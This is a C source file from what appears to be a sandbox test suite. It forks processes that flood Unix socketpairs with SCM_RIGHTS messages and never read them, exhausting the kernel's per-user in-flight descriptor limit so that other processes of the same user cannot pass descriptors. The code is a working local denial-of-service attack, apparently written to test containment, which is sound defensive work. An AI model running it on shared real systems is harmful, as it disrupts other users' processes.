/*
 * attack_inflight.c - sends descriptors and never receives them. The kernel counts
 * by user how many are on their way, and lets nobody of that user send one more
 * when they are more than the sender's own bound of open files: whoever makes
 * sandboxes for an ordinary user sends some for each. The argument says how many
 * processes do it; 0 only starts.
 */
#include <sys/socket.h>

#include "attack.h"

enum { DESCRIPTORS = 253, HOLD_MS = 4000 }; /* the most of one message */

static bool send_some(int sock)
{
	_Alignas(struct cmsghdr) char control[CMSG_SPACE(sizeof(int[DESCRIPTORS]))] = {0};
	char byte = 0;
	struct iovec part = {&byte, 1};
	struct msghdr message = {.msg_iov = &part,
				 .msg_iovlen = 1,
				 .msg_control = control,
				 .msg_controllen = sizeof(control)};
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);

	head->cmsg_level = SOL_SOCKET;
	head->cmsg_type = SCM_RIGHTS;
	head->cmsg_len = CMSG_LEN(sizeof(int[DESCRIPTORS])); /* all of them 0 */
	return sendmsg(sock, &message, MSG_DONTWAIT) >= 0;
}

static void send_all(int told)
{
	int pair[2];

	while (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0)
		while (send_some(pair[0]))
			;
	if (write(told, "", 1) != 1)
		_exit(1);
	for (;;)
		(void)pause();
}

int main(int argc, char **argv)
{
	long processes = argc > 1 ? number(argv[1]) : 0;
	int told[2];
	char byte;

	if (processes == 0)
		contained();
	if (pipe(told) < 0)
		_exit(1);
	for (long i = 0; i < processes; i++)
		if (fork() == 0)
			send_all(told[1]);
	for (long i = 0; i < processes; i++)
		if (read(told[0], &byte, 1) != 1)
			_exit(1);
	(void)puts("ready");
	(void)fflush(stdout);
	pause_ms(HOLD_MS);
	contained();
}
